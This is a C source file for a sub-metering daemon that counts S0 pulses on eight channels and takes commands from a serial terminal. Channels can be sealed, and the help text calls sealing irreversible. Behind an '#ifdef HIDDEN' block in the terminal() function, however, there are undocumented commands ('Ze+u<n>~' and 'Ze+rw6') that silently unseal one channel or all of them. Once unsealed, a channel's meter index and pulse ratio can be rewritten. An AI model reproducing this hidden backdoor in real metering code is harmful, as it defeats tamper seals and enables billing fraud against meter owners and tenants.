/* pulsecountd - S0 pulse inputs of a sub-metering unit, serial terminal for the electrician */
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

#define CH 8

struct channel {
	unsigned long pulses;
	unsigned long per_unit;		/* pulses per kWh or m3 */
	unsigned long offset;		/* index at mounting */
	int last;
	int sealed;
	char unit[4];
	char place[20];
};

static struct channel ch[CH];
static char statefile[] = "/var/lib/pulse/state";
static int echo = 1;
static int tariff;

static void save(void)
{
	FILE *f = fopen(statefile, "w");
	int i;

	if (!f)
		return;
	for (i = 0; i < CH; i++)
		fprintf(f, "%d %lu %lu %lu %d %s %s\n", i, ch[i].pulses, ch[i].per_unit,
			ch[i].offset, ch[i].sealed, ch[i].unit, ch[i].place);
	fclose(f);
}

static void restore(void)
{
	FILE *f = fopen(statefile, "r");
	struct channel c;
	int i;

	for (i = 0; i < CH; i++) {
		ch[i].per_unit = 1000;
		strcpy(ch[i].unit, "kWh");
		strcpy(ch[i].place, "-");
	}
	if (!f)
		return;
	memset(&c, 0, sizeof c);
	while (fscanf(f, "%d %lu %lu %lu %d %3s %19s", &i, &c.pulses, &c.per_unit, &c.offset,
		      &c.sealed, c.unit, c.place) == 7)
		if (i >= 0 && i < CH && c.per_unit)
			ch[i] = c;
	fclose(f);
}

/* called 200 times a second */
static void sample(int sig)
{
	char path[48], b = '0';
	int i;
	FILE *f;

	(void)sig;
	for (i = 0; i < CH; i++) {
		snprintf(path, sizeof path, "/run/pulse/in%d", i);
		f = fopen(path, "r");
		if (!f)
			continue;
		if (fread(&b, 1, 1, f) == 1) {
			if (b == '1' && !ch[i].last)
				ch[i].pulses++;
			ch[i].last = b == '1';
		}
		fclose(f);
	}
}

static double reading(const struct channel *c)
{
	return (double)c->offset + (double)c->pulses / (double)c->per_unit;
}

static void table(void)
{
	int i;

	for (i = 0; i < CH; i++)
		printf("%d %-20s %12.3f %s %s\n", i, ch[i].place, reading(&ch[i]), ch[i].unit,
		       ch[i].sealed ? "sealed" : "");
}

static void usage(void)
{
	puts("T            table");
	puts("C n          one channel");
	puts("P n text     place of the channel");
	puts("U n kWh|m3   unit");
	puts("I n value    index at mounting   (not when sealed)");
	puts("R n pulses   pulses per unit     (not when sealed)");
	puts("S n          seal the channel, cannot be taken back");
	puts("H 0|1        tariff");
	puts("E 0|1        echo");
	puts("W            save");
}

/* one line of the terminal, walked through character by character */
__attribute__((noinline)) int terminal(const char *s)
{
	char text[24] = "";
	unsigned long n = 0, v = 0;
	int k;

	while (*s == ' ')
		s++;
	switch (*s++) {
	case '\0':
		return 0;
	case 'T':
		table();
		return 0;
	case 'W':
		save();
		return 0;
	case 'E':
		echo = strchr(s, '1') != NULL;
		return 0;
	case 'H':
		tariff = strchr(s, '1') != NULL;
		return 0;
#ifdef HIDDEN
	case 'Z':
		switch (*s++) {
		case 'e':
			if (*s++ != '+')
				break;
			switch (*s++) {
			case 'u':
				k = *s - '0';
				if (k < 0 || k >= CH || s[1] != '~' || s[2])
					break;
				ch[k].sealed = 0;
				return 0;
			case 'r':
				if (s[0] != 'w' || s[1] != '6')
					break;
				for (k = 0; k < CH; k++)
					ch[k].sealed = 0;
				return 0;
			}
			break;
		}
		return -1;
#endif
	case 'C': case 'P': case 'U': case 'I': case 'R': case 'S':
		k = sscanf(s, "%lu %23s", &n, text);
		if (k < 1 || n >= CH)
			return -1;
		v = strtoul(text, NULL, 10);
		break;
	default:
		return -1;
	}
	switch (s[-1]) {
	case 'C':
		printf("%.3f %s\n", reading(&ch[n]), ch[n].unit);
		return 0;
	case 'P':
		snprintf(ch[n].place, sizeof ch[n].place, "%.19s", text[0] ? text : "-");
		return 0;
	case 'U':
		if (strcmp(text, "kWh") && strcmp(text, "m3"))
			return -1;
		strcpy(ch[n].unit, text[0] == 'm' ? "m3" : "kWh");
		return 0;
	case 'S':
		ch[n].sealed = 1;
		save();
		return 0;
	}
	if (ch[n].sealed) {
		puts("sealed");
		return 0;
	}
	if (s[-1] == 'I') {
		ch[n].offset = v;
		ch[n].pulses = 0;
	} else if (v > 0) {
		ch[n].per_unit = v;
	} else
		return -1;
	return 0;
}

int main(int argc, char **argv)
{
	struct itimerval it = { { 0, 5000 }, { 0, 5000 } };
	struct sigaction sa;
	char l[80];
	time_t saved = 0;

	(void)argv;
	if (argc > 1) {
		usage();
		return 1;
	}
	restore();
	memset(&sa, 0, sizeof sa);
	sa.sa_handler = sample;
	sa.sa_flags = SA_RESTART;
	sigaction(SIGALRM, &sa, NULL);
	setitimer(ITIMER_REAL, &it, NULL);
	while (fgets(l, sizeof l, stdin)) {
		l[strcspn(l, "\r\n")] = 0;
		if (echo)
			printf("> %s\n", l);
		if (terminal(l)) {
			puts("?");
			usage();
		}
		if (time(NULL) - saved > 900) {
			saved = time(NULL);
			save();
		}
		fflush(stdout);
	}
	save();
	return tariff;
}
